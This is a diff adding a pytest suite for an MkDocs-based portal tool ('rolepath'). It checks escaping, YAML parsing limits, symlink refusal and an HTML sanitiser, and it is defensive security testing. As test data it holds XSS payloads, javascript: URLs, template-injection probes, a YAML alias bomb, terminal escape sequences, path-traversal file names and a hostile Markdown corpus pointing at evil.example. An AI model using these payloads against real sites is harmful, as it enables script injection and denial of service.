@@ -1,0 +1,628 @@
+"""Hostile input: nothing an author writes becomes code, and no file takes the build down.
+
+Three parts:
+
+* hostile VALUES in every YAML field that reaches HTML or JSON, built into a real site: no
+  element or attribute is injected anywhere (pages, search index), no value is evaluated as a
+  template, ``javascript:`` never becomes a link, ``portal.json`` gives every value back exactly,
+  control characters never reach a page or a terminal raw;
+* hostile FILES (alias bombs, deep nesting, huge files, symbolic links out of the repository,
+  file names that try to escape): each gives a clean ``path:line: message`` from
+  ``rolepath check`` run in a child process with a memory limit and a time limit, so a crash or
+  a hang fails the test instead of taking pytest down with it;
+* the opt-in sanitiser (``extra: rolepath: sanitize: true``): hostile Markdown is neutralised,
+  ordinary Markdown output survives.
+"""
+
+from __future__ import annotations
+
+import gzip
+import json
+import os
+import re
+import resource
+import subprocess
+import sys
+import time
+from collections.abc import Callable, Iterator
+from pathlib import Path
+from typing import Any
+
+import markdown
+import pytest
+from bs4 import BeautifulSoup, Tag
+from mkdocs.exceptions import Abort
+from rolepath import load
+from rolepath.sanitize import SanitizeError, enabled, escape_meta, sanitize_html
+from sites import build_site, make_portal, small_portal, write
+
+# -- hostile values --------------------------------------------------------------------------
+
+PAYLOAD = (
+    "<script>hostile()</script><xss-probe>probe</xss-probe><img src=x onerror=hostile()>"
+    ' " xss-attr="1 \' xss-attr=\'1 " onmouseover="hostile() </title></textarea></script></style>'
+    "<xss-probe>probe</xss-probe> {{ 7*191 }} {% raw %}${7*191} ]]> --> <!-- & &amp; &lt; <b>b</b>"
+)
+JAVASCRIPT = "javascript:alert(1)"
+RTL = "abc\u202edcba\u202c \u2066isolated\u2069 \u200b\u200d"
+LONG = "L" + "o" * 99_998 + "ng"
+SSTI = "1337"  # 7*191: a value evaluated as a template would show this
+
+
+def hostile(field: str) -> str:
+    return f"{field} {PAYLOAD}"
+
+
+ROLE: dict[str, Any] = {
+    "title": hostile("Role title") + RTL,
+    "family": hostile("Family"),
+    "summary": hostile("Role summary"),
+    "paths": ["hostile-path"],
+    "from_to": [{"area": hostile("Area"), "today": hostile("Today"), "in_six_months": JAVASCRIPT}],
+    "practice": {"hours_per_week": 2, "ideas": [JAVASCRIPT, hostile("Idea"), " javascript:alert(2)"]},
+    "metrics_to_adjust": [{"metric": hostile("Metric"), "conflict": hostile("Conflict"), "adjustment": JAVASCRIPT}],
+    "payoff": [LONG, hostile("Payoff")],
+    "manager": {"before": [hostile("Before")], "after": [JAVASCRIPT], "prompts": [hostile("Prompt")]},
+}
+PATH: dict[str, Any] = {
+    "title": hostile("Path title"),
+    "summary": hostile("Path summary"),
+    "levels": {
+        name: {
+            "summary": hostile(f"Start here if {name}"),
+            "behaviours": [hostile(f"Behaviour {name}"), JAVASCRIPT if name == "baseline" else RTL],
+            "modules": ["hostile-lesson", "hostile-sandbox"] if name == "baseline" else ["hostile-sandbox"],
+        }
+        for name in ("baseline", "proficient", "advanced")
+    },
+    "manager": {"before": [hostile("Path before")], "after": [JAVASCRIPT]},
+}
+MODULES: dict[str, Any] = {
+    "hostile-lesson": {
+        "title": hostile("Lesson title"),
+        "summary": LONG,
+        "minutes": 20,
+        "objectives": [hostile("Objective"), JAVASCRIPT],
+        "body": "Plain body, no HTML.",
+    },
+    "hostile-sandbox": {
+        "title": JAVASCRIPT,
+        "kind": "exercise",
+        "summary": hostile("Sandbox summary"),
+        "minutes": 40,
+        "prerequisites": ["hostile-lesson"],
+        "sandbox": {"setting": hostile("Setting"), "time_box": 30, "success": [hostile("Success"), JAVASCRIPT]},
+        "reflection": [hostile("Reflection")],
+        "body": "Plain exercise.",
+    },
+}
+LEADER: dict[str, Any] = {
+    "title": hostile("Leader title"),
+    "summary": JAVASCRIPT,
+    "phrases": [{"instead_of": hostile("Instead of"), "say": JAVASCRIPT, "why": hostile("Why") + RTL}],
+    "body": "Plain one-pager.",
+}
+
+
+@pytest.fixture(scope="module")
+def site(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    root = make_portal(
+        tmp_path_factory.mktemp("hostile"),
+        roles={"hostile-role": ROLE},
+        paths={"hostile-path": PATH},
+        modules=MODULES,
+        leaders={"hostile-leader": LEADER},
+        pages={"index.md": "# Home\n\nWelcome.\n"},
+    )
+    return build_site(root)
+
+
+def html_files(site: Path) -> Iterator[tuple[str, BeautifulSoup]]:
+    for path in sorted(site.rglob("*.html")):
+        yield path.relative_to(site).as_posix(), BeautifulSoup(path.read_text(encoding="utf-8"), "html.parser")
+
+
+URL_ATTRIBUTES = ("href", "src", "action", "formaction", "xlink:href", "data", "poster", "srcdoc")
+_IGNORED_IN_URLS = re.compile(r"[\x00-\x20]+")
+
+
+def injections(tree: BeautifulSoup | Tag, where: str) -> list[str]:
+    """Every sign of markup that a value has injected into a parsed document."""
+    found = []
+    for element in tree.find_all(True):
+        if element.name == "xss-probe":
+            found.append(f"{where}: <xss-probe> element")
+        for name, value in element.attrs.items():
+            text = " ".join(value) if isinstance(value, list) else str(value)
+            if name == "xss-attr" or name.startswith("on"):
+                found.append(f"{where}: <{element.name} {name}=...>")
+            if name in URL_ATTRIBUTES and _IGNORED_IN_URLS.sub("", text).lower().startswith(("javascript:", "data:")):
+                found.append(f"{where}: <{element.name} {name}={text[:40]!r}>")
+        if element.name == "script" and "hostile()" in element.get_text():
+            found.append(f"{where}: <script> with the payload")
+        if element.name == "img" and element.get("src") == "x":
+            found.append(f"{where}: <img src=x>")
+    return found
+
+
+def test_no_markup_is_injected_into_any_page(site: Path) -> None:
+    found = [problem for url, page in html_files(site) for problem in injections(page, url)]
+    assert not found, f"{len(found)} injections, e.g. {found[:8]}"
+
+
+def test_search_index_entries_are_inert_html(site: Path) -> None:
+    """Material's search shows titles and text with innerHTML: they must be inert as HTML too."""
+    index = json.loads((site / "search" / "search_index.json").read_text(encoding="utf-8"))
+    found = []
+    for doc in index["docs"]:
+        for key in ("title", "text"):
+            found += injections(BeautifulSoup(doc.get(key) or "", "html.parser"), f"search {doc['location']} {key}")
+    assert not found, f"{len(found)} injections, e.g. {found[:8]}"
+
+
+def outputs(site: Path) -> Iterator[tuple[str, bytes]]:
+    """The files the build made from content (not the theme's assets), .gz ones decompressed."""
+    for path in sorted(site.rglob("*")):
+        rel = path.relative_to(site).as_posix()
+        if not path.is_file() or rel.startswith("assets/"):
+            continue
+        data = path.read_bytes()
+        yield rel, gzip.decompress(data) if path.suffix == ".gz" else data
+
+
+def test_no_value_is_evaluated_as_a_template(site: Path) -> None:
+    hits = [rel for rel, data in outputs(site) if SSTI.encode() in data]
+    assert not hits, f"'{{{{ 7*191 }}}}' was evaluated in {hits}"
+
+
+def test_values_are_shown_as_text(site: Path) -> None:
+    page = BeautifulSoup((site / "roles/hostile-role/index.html").read_text("utf-8"), "html.parser")
+    article = page.select_one("article")
+    assert article is not None
+    shown = article.get_text()
+    for value in (ROLE["summary"], JAVASCRIPT, LONG, RTL, PATH["levels"]["baseline"]["behaviours"][0]):
+        assert value in shown, f"{value[:60]!r} is not shown as text"
+    module = BeautifulSoup((site / "modules/hostile-sandbox/index.html").read_text("utf-8"), "html.parser")
+    assert not module.select('a[href^="javascript"]')
+    assert JAVASCRIPT in module.get_text()
+
+
+def test_portal_json_gives_every_value_back_exactly(site: Path) -> None:
+    data = json.loads((site / "portal.json").read_text(encoding="utf-8"))
+    role = data["roles"][0]
+    assert role["title"] == ROLE["title"]
+    assert role["family"] == ROLE["family"]
+    assert role["summary"] == ROLE["summary"]
+    assert role["from_to"] == ROLE["from_to"]
+    path = data["paths"][0]
+    assert path["title"] == PATH["title"] and path["summary"] == PATH["summary"]
+    for level in path["levels"]:
+        expected = PATH["levels"][level["name"]]
+        assert level["summary"] == expected["summary"]
+        assert [b["text"] for b in level["behaviours"]] == expected["behaviours"]
+    modules = {m["id"]: m for m in data["modules"]}
+    for module_id, module in MODULES.items():
+        assert modules[module_id]["title"] == module["title"]
+        assert modules[module_id]["summary"] == module["summary"]
+    sandbox = modules["hostile-sandbox"]["exercise"]
+    assert sandbox["setting"] == MODULES["hostile-sandbox"]["sandbox"]["setting"]
+    assert sandbox["success"] == MODULES["hostile-sandbox"]["sandbox"]["success"]
+    leader = data["leaders"][0]
+    assert leader["title"] == LEADER["title"] and leader["summary"] == LEADER["summary"]
+
+
+CONTROL = "".join(chr(c) for c in range(0x20) if chr(c) not in "\t\n\r")
+
+
+def test_control_characters_give_a_clean_error_or_never_reach_the_output(
+    tmp_path: Path, caplog: pytest.LogCaptureFixture
+) -> None:
+    """YAML escapes (\\x01, \\e, \\0) get control characters past the YAML reader. They are invalid
+    in HTML, XML (sitemap, feeds) and iCalendar text, and a terminal obeys them: the engine
+    must either refuse them with a clean message or keep every raw one out of every file."""
+    portal = small_portal()
+    portal["roles"]["support-agent"]["title"] = f"Agent {CONTROL} end"
+    portal["roles"]["support-agent"]["practice"]["ideas"] = [f"Idea \x1b[2J\x07 {CONTROL}"]
+    portal["modules"]["prompting-basics"]["summary"] = f"Summary \x00\x0b\x0c {CONTROL}"
+    root = make_portal(tmp_path, **portal)
+    raw = (root / "roles/support-agent.yml").read_text(encoding="utf-8")
+    assert "\\e" in raw or "\\x1B" in raw or "\\x1b" in raw, "the YAML file holds escapes, not raw bytes"
+    try:
+        site = build_site(root)
+    except Abort:
+        messages = [r.getMessage() for r in caplog.records if r.levelname == "ERROR"]
+        assert any(re.search(r"(^|\s)roles/support-agent\.yml:\d+: ", m) for m in messages), messages
+        assert not any(set(m) & set(CONTROL) for m in messages), "error messages quote control characters raw"
+        return
+    raw_controls = re.compile(rb"[\x00-\x08\x0b\x0c\x0e-\x1f]")
+    dirty = [rel for rel, data in outputs(site) if raw_controls.search(data)]
+    assert not dirty, f"raw control characters in {dirty}"
+
+
+def test_check_output_never_carries_raw_control_characters(tmp_path: Path) -> None:
+    """A value quoted in a message (an invalid id here) must not drive the reader's terminal:
+    an escape sequence in CI output can hide or forge lines."""
+    portal = small_portal()
+    portal["roles"]["support-agent"]["paths"] = ["support-basics", "\x1b[2J\x1b[1Aforged\x07"]
+    root = make_portal(tmp_path, **portal)
+    result = subprocess.run(
+        [sys.executable, "-m", "rolepath.cli", "check", str(root)], capture_output=True, timeout=60, check=False
+    )
+    output = result.stdout + result.stderr
+    assert result.returncode == 1, output
+    assert b"roles/support-agent.yml:" in output
+    assert not re.search(rb"[\x00-\x08\x0b-\x1f\x7f]", output), f"raw control characters in: {output!r}"
+
+
+# -- hostile files ---------------------------------------------------------------------------
+
+MEMORY_LIMIT = 1 << 30
+"""Address space for a `rolepath check` child: a bomb that needs more is stopped, not survived."""
+TIME_LIMIT = 30
+FAST = 10.0
+"""Seconds a hostile file may take to be refused (a clean portal checks in well under one)."""
+
+
+def _limit_memory() -> None:  # runs in the child, before exec
+    resource.setrlimit(resource.RLIMIT_AS, (MEMORY_LIMIT, MEMORY_LIMIT))
+
+
+def check(root: Path) -> tuple[int, str, float]:
+    """``rolepath check root`` in a child process: (exit code, output, seconds)."""
+    started = time.monotonic()
+    try:
+        result = subprocess.run(
+            [sys.executable, "-m", "rolepath.cli", "check", str(root)],
+            capture_output=True,
+            text=True,
+            timeout=TIME_LIMIT,
+            preexec_fn=_limit_memory,
+            env={**os.environ, "PYTHONPATH": str(Path(__file__).resolve().parents[1] / "hooks")},
+            check=False,
+        )
+    except subprocess.TimeoutExpired:
+        pytest.fail(f"rolepath check did not finish in {TIME_LIMIT} s")
+    return result.returncode, result.stdout + result.stderr, time.monotonic() - started
+
+
+def alias_bomb() -> str:
+    lines = ['a0: &a0 ["lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol"]']
+    for n in range(1, 10):
+        lines.append(f"a{n}: &a{n} [" + ", ".join([f"*a{n - 1}"] * 9) + "]")
+    return "title: x\n" + "\n".join(lines) + "\n"
+
+
+def _outside(root: Path, name: str, text: str) -> Path:
+    outside = root.parent / f"{root.name}-outside"
+    outside.mkdir(exist_ok=True)
+    target = outside / name
+    target.write_text(text, encoding="utf-8")
+    return target
+
+
+def _symlinked_role(root: Path) -> None:
+    (root / "roles/evil.yml").symlink_to(_outside(root, "evil.yml", "title: Evil\n"))
+
+
+def _symlinked_module(root: Path) -> None:
+    target = _outside(root, "evil.md", "---\ntitle: Evil\nsummary: s\nminutes: 5\n---\nSECRET\n")
+    (root / "content/modules/evil.md").symlink_to(target)
+
+
+def _symlinked_roles_folder(root: Path) -> None:
+    role = (root / "roles/support-agent.yml").read_text(encoding="utf-8")
+    _outside(root, "support-agent.yml", role)
+    for file in (root / "roles").iterdir():
+        file.unlink()
+    (root / "roles").rmdir()
+    (root / "roles").symlink_to(root.parent / f"{root.name}-outside", target_is_directory=True)
+
+
+HOSTILE_FILES: dict[str, tuple[dict[str, str | bytes], Callable[[Path], None] | None, str]] = {
+    # name: (files to add, extra setup, expected "path:line: message" pattern)
+    "alias bomb": ({"roles/bomb.yml": alias_bomb()}, None, r"roles/bomb\.yml:\d+: YAML expands to more than"),
+    "1,000-deep flow nesting": (
+        {"roles/deep.yml": "title: " + "[" * 1000 + "]" * 1000 + "\n"},
+        None,
+        r"roles/deep\.yml:\d+: YAML nests deeper than",
+    ),
+    "1,000-deep block nesting": (
+        {"paths/deep.yml": "title:\n" + "".join("  " * i + f"k{i}:\n" for i in range(1, 1000)) + "  " * 1000 + "x\n"},
+        None,
+        r"paths/deep\.yml:\d+: YAML nests deeper than",
+    ),
+    "100,000-deep nesting in 200 KB": (
+        {"roles/deeper.yml": "title: " + "[" * 100_000 + "]" * 100_000 + "\n"},
+        None,
+        r"roles/deeper\.yml:\d+: YAML nests deeper than",
+    ),
+    "2 MiB role": (
+        {"roles/big.yml": "title: x\n#" + "x" * (2 << 20) + "\n"},
+        None,
+        r"roles/big\.yml:1: file is 2048 KiB",
+    ),
+    "6 MiB module": (
+        {"content/modules/big.md": "---\ntitle: x\n---\n" + "x" * (6 << 20)},
+        None,
+        r"content/modules/big\.md:1: file is \d+ KiB",
+    ),
+    "60,000 keys": (
+        {"roles/keys.yml": "".join(f"k{i}: {i}\n" for i in range(60_000))},
+        None,
+        r"roles/keys\.yml:\d+: ",
+    ),
+    "raw NUL and escape bytes": ({"roles/ctrl.yml": b"title: a\x00b\x1b[2J\n"}, None, r"roles/ctrl\.yml:\d+: "),
+    "not UTF-8": ({"roles/latin.yml": b"title: caf\xe9\n"}, None, r"roles/latin\.yml:1: file is not UTF-8"),
+    "symbolic link to a role outside": ({}, _symlinked_role, r"roles/evil\.yml:1: symbolic link points outside"),
+    "symbolic link to a module outside": (
+        {},
+        _symlinked_module,
+        r"content/modules/evil\.md:1: symbolic link points outside",
+    ),
+    "roles folder is a link outside": ({}, _symlinked_roles_folder, r"roles(/[\w.-]+)?:1: .*outside the repository"),
+    "name with a slash escape": (
+        {"roles/a..%2f..%2fevil.yml": "title: x\n"},
+        None,
+        r"roles/a\.\.%2f\.\.%2fevil\.yml:1: file name 'a\.\.%2f\.\.%2fevil' is not a valid id",
+    ),
+    "name with spaces and accents": (
+        {"roles/Café Role.yml": "title: x\n"},
+        None,
+        r"roles/Café Role\.yml:1: file name 'Café Role' is not a valid id",
+    ),
+    "module name in another script": (
+        {"content/modules/модуль.md": "---\ntitle: x\n---\n"},
+        None,
+        r"content/modules/модуль\.md:1: file name 'модуль' is not a valid id",
+    ),
+}
+
+
+@pytest.mark.parametrize("case", list(HOSTILE_FILES))
+def test_hostile_file_gives_a_clean_error_quickly(tmp_path: Path, case: str) -> None:
+    files, setup, expected = HOSTILE_FILES[case]
+    root = make_portal(tmp_path / "repo", **small_portal())
+    for rel, content in files.items():
+        target = root / rel
+        target.parent.mkdir(parents=True, exist_ok=True)
+        target.write_bytes(content if isinstance(content, bytes) else content.encode("utf-8"))
+    if setup is not None:
+        setup(root)
+    code, output, seconds = check(root)
+    assert code == 1, f"exit code {code} (negative: killed by a signal); output:\n{output[-2000:]}"
+    assert re.search(rf"(?m)^{expected}", output), f"no line matching {expected!r} in:\n{output[-2000:]}"
+    assert "Traceback" not in output
+    assert seconds < FAST, f"took {seconds:.1f} s"
+
+
+def test_hidden_file_whose_name_tries_to_escape_is_not_loaded(tmp_path: Path) -> None:
+    root = make_portal(tmp_path, **small_portal())
+    write(root / "roles" / "..%2f.yml", "title: Evil\n")
+    loaded = load(root)
+    assert set(loaded.portal.roles) == {"support-agent"}
+    assert not loaded.report.errors
+
+
+def test_symbolic_links_never_publish_files_from_outside(tmp_path: Path, caplog: pytest.LogCaptureFixture) -> None:
+    """MkDocs copies every file under docs_dir, following links: a link to a file or folder
+    outside the repository would publish it (a key, a .env). The build must refuse it."""
+    root = make_portal(tmp_path / "repo", **small_portal())
+    secret = _outside(root, "secret.txt", "TOP-SECRET-9c1e\n")
+    (root / "content" / "notes.txt").symlink_to(secret)
+    (root / "content" / "shared").symlink_to(secret.parent, target_is_directory=True)
+    site = root / "site"
+    try:
+        build_site(root)
+        refused = False
+    except Abort:
+        refused = True
+    leaked = [p for p in tmp_path.rglob("*") if p.is_file() and site in p.parents and b"TOP-SECRET" in p.read_bytes()]
+    assert not leaked, f"files from outside the repository were published: {leaked}"
+    if refused:
+        assert any("outside the repository" in r.getMessage() for r in caplog.records)
+
+
+# -- the sanitiser -------------------------------------------------------------------------
+
+EXTENSIONS = [
+    "admonition",
+    "attr_list",
+    "md_in_html",
+    "tables",
+    "toc",
+    "pymdownx.details",
+    "pymdownx.highlight",
+    "pymdownx.superfences",
+    "pymdownx.tasklist",
+]
+EXTENSION_CONFIGS = {"toc": {"permalink": True}, "pymdownx.tasklist": {"custom_checkbox": True}}
+
+ORDINARY = """\
+# Title
+
+## Section one
+
+Text with *emphasis*, **strong**, `code`, a [link](https://example.com/a?b=c#d), a
+[page](../other/ "Other"), an [anchor](#section-one), [mail](mailto:x@example.com) and
+![an image](pic.png "Picture").
+
+| Left | Right | Centre |
+|:-----|------:|:------:|
+| 1    | 2     | 3      |
+
+!!! note "Heads up"
+    An admonition with `code` and a list:
+
+    1. one
+    2. two
+
+??? tip "More"
+    Details body.
+
+```python
+def double(x: int) -> int:
+    return x * 2  # twice
+```
+
+- [x] done
+- [ ] to do
+
+> A quotation.
+
+<div data-audience="managers" markdown>
+For managers.
+</div>
+
+Term
+---
+
+***
+"""
+
+HOSTILE_MARKDOWN = """\
+# Fine heading
+
+<script>alert(1)</script>
+<img src=x onerror="alert(2)">
+<a href="javascript:alert(3)">js link</a> <a href="JaVaScRiPt&colon;alert(4)">js2</a>
+<a href="&#1;javascript:alert(5)">js3</a> <a href="jav&#x09;ascript:alert(6)">js4</a>
+[markdown js](javascript:alert(7)) <a href="data:text/html,<script>alert(8)</script>">data</a>
+<iframe src="https://evil.example/"></iframe>
+<p style="background:url(javascript:alert(9))" onclick="alert(10)">styled</p>
+<svg><script>alert(11)</script><a xlink:href="javascript:alert(12)">svg</a></svg>
+<math><mi xlink:href="javascript:alert(13)">m</mi></math>
+<form action="https://evil.example/"><input type="password" name="pw">
+<button formaction="javascript:alert(14)">go</button></form>
+<object data="x.swf"></object><embed src="x.swf"><base href="https://evil.example/">
+<meta http-equiv="refresh" content="0;url=https://evil.example/">
+<style>body { display: none }</style><link rel="stylesheet" href="https://evil.example/x.css">
+<details open ontoggle="alert(15)"><summary>s</summary>d</details>
+<a href="https://example.com/" target="_blank" onmouseover="alert(16)">ok link</a>
+<!-- a comment with <script>alert(17)</script> -->
+<noscript><p title="</noscript><img src=x onerror=alert(18)>"></p></noscript>
+<table><tr><td style="text-align: right; background: url(javascript:alert(19))">cell</td></tr></table>
+"""
+
+
+def render(text: str) -> str:
+    return str(markdown.markdown(text, extensions=EXTENSIONS, extension_configs=EXTENSION_CONFIGS))
+
+
+def neutralised(html: str) -> list[str]:
+    tree = BeautifulSoup(html, "html.parser")
+    # What is left of <img src=x onerror=...> is a harmless image at the relative URL "x".
+    found = [problem for problem in injections(tree, "sanitised") if not problem.endswith("<img src=x>")]
+    for name in ("script", "iframe", "object", "embed", "svg", "math", "form", "base", "meta", "style", "link"):
+        found += [f"<{name}> kept" for _ in tree.find_all(name)]
+    for element in tree.find_all(True):
+        if "style" in element.attrs and element.name not in ("td", "th"):
+            found.append(f"style on <{element.name}>")
+        style = str(element.get("style", ""))
+        if "url(" in style or "javascript" in style:
+            found.append(f"style {style!r} kept")
+        if element.name == "input" and element.get("type") != "checkbox":
+            found.append(f"input of type {element.get('type')!r}")
+        if element.get("target"):
+            found.append("target kept")
+    if re.search(r"alert\(\d+\)", html) and "<" in html:
+        found += [f"payload text {m!r} left in markup" for m in re.findall(r"<[^>]*alert\(\d+\)[^>]*>", html)]
+    if "<!--" in html:
+        found.append("comment kept")
+    return found
+
+
+def test_sanitize_neutralises_hostile_markdown() -> None:
+    raw = render(HOSTILE_MARKDOWN)
+    assert neutralised(raw), "the hostile corpus is hostile before sanitising"
+    clean = sanitize_html(raw)
+    assert not neutralised(clean), neutralised(clean)
+    tree = BeautifulSoup(clean, "html.parser")
+    assert tree.find("h1", id="fine-heading") is not None
+    assert [a.get("href") for a in tree.find_all("a") if a.get_text() == "ok link"] == ["https://example.com/"]
+    assert tree.find("td", string="cell")["style"] == "text-align:right"  # type: ignore[index]
+
+
+def shape(html: str) -> list[tuple[str, dict[str, str]]]:
+    """Elements and attributes, with the differences that do not matter smoothed away."""
+    elements = []
+    for element in BeautifulSoup(html, "html.parser").find_all(True):
+        attributes = {}
+        for name, value in element.attrs.items():
+            text = " ".join(value) if isinstance(value, list) else str(value)
+            if name == "style":
+                text = text.replace(" ", "").rstrip(";")
+            if name in ("disabled", "checked"):
+                text = ""
+            attributes[name] = text
+        elements.append((element.name, attributes))
+    return elements
+
+
+def test_sanitize_keeps_ordinary_markdown_output() -> None:
+    raw = render(ORDINARY)
+    clean = sanitize_html(raw)
+    assert shape(clean) == shape(raw)
+    assert BeautifulSoup(clean, "html.parser").get_text() == BeautifulSoup(raw, "html.parser").get_text()
+    tree = BeautifulSoup(clean, "html.parser")
+    assert tree.select_one('h2#section-one a.headerlink[href="#section-one"]') is not None
+    assert tree.select_one("div.admonition.note p.admonition-title") is not None
+    assert tree.select_one("div.highlight pre code span.k") is not None, "Pygments' spans survive"
+    assert tree.select_one('div[data-audience="managers"]') is not None
+
+
+def test_sanitize_refuses_deep_nesting_quickly_and_is_linear_otherwise() -> None:
+    """HTML parsers work in proportion to the nesting depth for every element: 50,000 nested
+    tags would keep the sanitiser busy for a quarter of a minute, so they are refused."""
+    started = time.perf_counter()
+    with pytest.raises(SanitizeError, match="nests 50000 elements deep"):
+        sanitize_html("<div>" * 50_000 + "x" + "</div>" * 50_000)
+    assert time.perf_counter() - started < 2
+    assert sanitize_html("<ul><li>" * 100 + "x" + "</li></ul>" * 100).count("<li>") == 100
+    started = time.perf_counter()
+    sanitize_html(("<div>" * 200 + "x" + "</div>" * 200) * 500 + "<p>" + "a &amp; <b>b</b> " * 50_000 + "</p>")
+    assert time.perf_counter() - started < 10
+
+
+def test_sanitize_setting_and_front_matter() -> None:
+    assert not enabled({}) and not enabled(None) and not enabled({"rolepath": {}})
+    assert enabled({"rolepath": {"sanitize": True}})
+    with pytest.raises(ValueError, match="true or false"):
+        enabled({"rolepath": {"sanitize": "yes"}})
+    meta: dict[str, Any] = {"title": "</title><script>x()</script>", "description": '"><x>', "n": 1}
+    escape_meta(meta)
+    assert meta == {
+        "title": "&lt;/title&gt;&lt;script&gt;x()&lt;/script&gt;",
+        "description": "&quot;&gt;&lt;x&gt;",
+        "n": 1,
+    }
+
+
+def test_sanitized_build_publishes_no_markup_from_markdown(tmp_path: Path) -> None:
+    """With ``sanitize: true`` the built pages carry none of the hostile Markdown's markup:
+    not in a module, a one-pager, an ordinary page, the home page or the search index."""
+    portal = small_portal()
+    portal["modules"]["prompting-basics"]["body"] = HOSTILE_MARKDOWN
+    portal["leaders"] = {
+        "speak-up": {
+            "title": "Speak up",
+            "summary": "What to say.",
+            "phrases": [{"instead_of": "No.", "say": "Tell me more."}],
+            "body": HOSTILE_MARKDOWN,
+        }
+    }
+    portal["pages"] = {"index.md": "# Home\n\n" + HOSTILE_MARKDOWN, "about.md": HOSTILE_MARKDOWN}
+    config = {
+        "extra": {"rolepath": {"sanitize": True}},
+        "markdown_extensions": [*EXTENSIONS[:-1], {"pymdownx.tasklist": {"custom_checkbox": True}}],
+    }
+    root = make_portal(tmp_path, **portal, config=config)
+    site = build_site(root)
+    found = []
+    for url in ("modules/prompting-basics/index.html", "leaders/speak-up/index.html", "about/index.html", "index.html"):
+        page = BeautifulSoup((site / url).read_text("utf-8"), "html.parser")
+        article = page.select_one("article")
+        assert article is not None
+        for button in article.select(".md-content__button"):  # Material's own edit link, with its icon
+            button.decompose()
+        found += [f"{url}: {problem}" for problem in neutralised(str(article))]
+    assert not found, found
